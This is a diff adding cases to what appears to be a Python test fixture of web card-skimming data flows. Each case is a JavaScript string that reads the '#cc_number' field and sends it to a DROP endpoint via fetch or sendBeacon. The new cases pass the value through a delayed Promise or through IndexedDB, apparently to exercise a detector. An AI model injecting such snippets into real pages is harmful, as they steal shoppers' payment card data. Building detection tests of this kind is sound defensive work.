@@ -51,6 +51,17 @@ FLOWS = {
               f"fetch('{DROP}', {{method: 'POST', body: JSON.stringify(rec)}});",
     "named callback": f"function take(el) {{ navigator.sendBeacon('{DROP}', el.value); }}\n"
                       f"document.querySelectorAll('#cc_number').forEach(take);",
+    "promise resolve": f"function read() {{ return new Promise(function (res) {{\n"
+                       f"  setTimeout(function () {{ res(document.querySelector('#cc_number')"
+                       f".value); }}, 10); }}); }}\n"
+                       f"(async function () {{ var v = await read(); "
+                       f"fetch('{DROP}', {{method: 'POST', body: v}}); }})();",
+    "IndexedDB staging": f"var open = indexedDB.open('cache', 1);\n"
+                         f"open.onsuccess = function () {{ var db = open.result;\n"
+                         f"  var st = db.transaction('k', 'readwrite').objectStore('k');\n"
+                         f"  st.put({{n: document.querySelector('#cc_number').value}});\n"
+                         f"  var all = st.getAll(); all.onsuccess = function () {{\n"
+                         f"    navigator.sendBeacon('{DROP}', JSON.stringify(all.result)); }}; }};",
     "form sweep": f"var d = [];\n"
                   f"document.querySelectorAll('input, select').forEach(function (i) "
                   f"{{ d.push(i.value); }});\n"
